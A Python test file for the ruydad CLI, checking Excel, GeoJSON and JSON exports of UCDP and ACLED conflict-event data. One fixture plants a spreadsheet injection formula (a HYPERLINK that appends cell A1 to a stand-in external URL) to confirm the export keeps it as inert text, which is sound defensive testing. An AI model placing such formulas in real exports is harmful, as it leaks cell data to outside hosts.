"""Exports analysts ask for: Excel workbooks, GeoJSON points, and pages of events like the HTTP API's."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from ruydad.cli import app
from ruydad.model import EVENT_COLUMN_NAMES

runner = CliRunner()
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


@pytest.fixture
def db(tmp_path: Path, ucdp_sample: Path, acled_file: Callable[..., Path]) -> str:
    location = str(tmp_path / "exports.duckdb")

    def plant_formula(rows: list[dict[str, str]]) -> None:
        rows[0]["notes"] = FORMULA

    assert runner.invoke(app, ["--db", location, "ingest", "ucdp", str(ucdp_sample)]).exit_code == 0
    done = runner.invoke(app, ["--db", location, "ingest", "acled", str(acled_file(rows=30, edit=plant_formula))])
    assert done.exit_code == 0, done.output
    return location


def run(db: str, *args: str) -> str:
    result = runner.invoke(app, ["--db", db, *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_events_as_an_excel_workbook(db: str, tmp_path: Path) -> None:
    target = tmp_path / "events.xlsx"
    run(db, "events", "--limit", "0", "--format", "xlsx", "--out", str(target))
    sheet = load_workbook(target).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == list(EVENT_COLUMN_NAMES)
    assert len(rows) == 1 + 1024 + 30
    column = {name: i for i, name in enumerate(rows[0])}
    first = rows[1]
    assert isinstance(first[column["event_date"]], datetime)  # a real Excel date, not text
    assert all(isinstance(r[column["fatalities"]], int) for r in rows[1:] if r[column["fatalities"]] is not None)
    assert sheet.freeze_panes == "A2"


def test_excel_keeps_formula_looking_text_as_text(db: str, tmp_path: Path) -> None:
    target = tmp_path / "acled.xlsx"
    run(db, "events", "--dataset", "acled", "--limit", "0", "--format", "xlsx", "--out", str(target))
    sheet = load_workbook(target).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    notes = [row[header.index("notes")] for row in sheet.iter_rows(min_row=2)]
    planted = [cell for cell in notes if cell.value == FORMULA]
    assert len(planted) == 1 and planted[0].data_type == "s"  # shown as written, never run


def test_events_as_geojson_points(db: str) -> None:
    data = json.loads(run(db, "events", "--dataset", "acled", "--limit", "0", "--format", "geojson"))
    assert data["type"] == "FeatureCollection" and len(data["features"]) == 30
    for feature in data["features"]:
        props = feature["properties"]
        assert feature["geometry"] == {"type": "Point", "coordinates": [props["longitude"], props["latitude"]]}


def test_geojson_without_coordinates_says_which_columns_it_needs(db: str) -> None:
    result = runner.invoke(app, ["--db", db, "events", "--format", "geojson", "--columns", "event_id_cnty"])
    assert result.exit_code == 1
    assert "latitude and longitude" in result.output


def test_offset_pages_through_events_like_the_http_api(db: str) -> None:
    ten = json.loads(run(db, "events", "--limit", "10", "--format", "json", "--columns", "event_id_cnty"))
    page = json.loads(run(db, "events", "--limit", "5", "--offset", "5", "--format", "json",
                          "--columns", "event_id_cnty"))
    assert page == ten[5:]
    everything = json.loads(run(db, "events", "--limit", "0", "--format", "json", "--columns", "event_id_cnty"))
    rest = json.loads(run(db, "events", "--limit", "0", "--offset", "1050", "--format", "json",
                          "--columns", "event_id_cnty"))
    assert rest == everything[1050:] and len(rest) == 4


def test_period_selects_events_like_from_and_to(db: str) -> None:
    by_period = json.loads(run(db, "events", "--period", "2021H2", "--limit", "0", "--format", "json",
                               "--columns", "event_id_cnty,event_date"))
    by_dates = json.loads(run(db, "events", "--from", "2021-07-01", "--to", "2021-12-31", "--limit", "0",
                              "--format", "json", "--columns", "event_id_cnty,event_date"))
    assert by_period == by_dates and by_period
    assert all("2021-07-01" <= e["event_date"] <= "2021-12-31" for e in by_period)
